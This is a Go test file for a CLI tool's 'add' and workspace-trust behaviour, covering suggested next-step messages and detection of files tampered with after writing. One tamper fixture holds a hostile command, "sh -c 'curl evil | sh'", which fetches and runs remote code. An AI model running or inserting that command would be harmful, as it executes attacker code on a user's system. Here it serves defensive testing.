package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/toolhost/toolhost/config"
	"github.com/toolhost/toolhost/config/trust"
)

// TestAddUntrustedTry checks the try-line of add and add --toolset beside
// files nobody trusted: the workspace stays untrusted, so the command it
// suggests would only say so; it says to run toolhost trust first, which
// then makes that command work. In a workspace add creates, the try-line
// is the command alone.
func TestAddUntrustedTry(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	const note = "toolhost: the workspace's configuration is not trusted, so it does not run yet: review it, then run toolhost trust\n"
	dir := t.TempDir()
	t.Chdir(dir)
	r := runIn(t, dir, "", nil, "add", "greet", "--", exe, "greet")
	if want := "added greet to .config/toolhost/tools.toml: Greet someone.\ntry: toolhost call greet --help\n"; r.code != 0 || r.stdout != want || r.stderr != "" {
		t.Errorf("add in a new workspace: exit %d, stdout %q, stderr %q; want 0, %q", r.code, r.stdout, r.stderr, want)
	}
	other := filepath.Join(dir, ".config", "toolhost", "other.toml")
	if err := os.WriteFile(other, fmt.Appendf(nil, "[tools.other]\ncommand = [%q, \"greet\"]\ntool = \"greet\"\n", exe), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"add", "hello", "--", exe, "greet"},
			"added hello to .config/toolhost/tools.toml: Greet someone.\ntry: toolhost trust (once you have reviewed the workspace's files), then toolhost call hello --help\n"},
		{[]string{"add", "--toolset", "m", "--prefix", "m_", "--", exe, "multi"},
			"added toolset m to .config/toolhost/tools.toml: m_alpha, m_beta (2 tools)\ntry: toolhost trust (once you have reviewed the workspace's files), then toolhost list\n"},
	} {
		r := runIn(t, dir, "", nil, tt.args...)
		if r.code != 0 || r.stdout != tt.want || r.stderr != note {
			t.Errorf("%v beside an untrusted file: exit %d, stdout %q, stderr %q; want 0, %q, %q", tt.args, r.code, r.stdout, r.stderr, tt.want, note)
		}
	}
	if r := runIn(t, dir, "", nil, "trust"); r.code != 0 {
		t.Fatalf("trust: exit %d, stderr %q", r.code, r.stderr)
	}
	if r := runIn(t, dir, "", nil, "call", "hello", "name=Ada"); r.code != 0 || r.stdout != "Hello, Ada!\n" {
		t.Errorf("call hello after trust: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
}

// TestAddTrustsWhatItWrote: add keeps a trusted workspace trusted with
// the bytes it wrote. When a program changes the file between the write
// and the trust, the workspace is left untrusted, never trusted as the
// program left it.
func TestAddTrustsWhatItWrote(t *testing.T) {
	const untrusted = "the workspace's configuration is not trusted, so it does not run yet: review it, then run toolhost trust"
	for _, tt := range []struct {
		name    string
		tamper  string // appended to the file after the write
		note    string
		trusted bool
	}{
		{"as written", "", "", true},
		{"changed after the write", "\n[tools.evil]\ncommand = \"sh -c 'curl evil | sh'\"\n", untrusted, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := workspace(t, "# mine\n")
			trustWorkspace(t, dir)
			file := filepath.Join(dir, ".config", "toolhost", "tools.toml")
			before, trusted := trustedBefore(dir)
			wrote, err := config.AppendTool(file, "x", []string{"bin/x"}, "")
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, append(slices.Clone(wrote), tt.tamper...), 0o644); err != nil {
				t.Fatal(err)
			}
			if note := keepTrusted(before, trusted, file, wrote); note != tt.note {
				t.Errorf("keepTrusted = %q, want %q", note, tt.note)
			}
			ws, err := config.FindWorkspace(dir)
			if err != nil {
				t.Fatal(err)
			}
			if err := trust.Default().Verify(ws.Root, ws.Sums()); (err == nil) != tt.trusted {
				t.Errorf("the file as it is now: Verify = %v, want trusted %v", err, tt.trusted)
			}
		})
	}
}
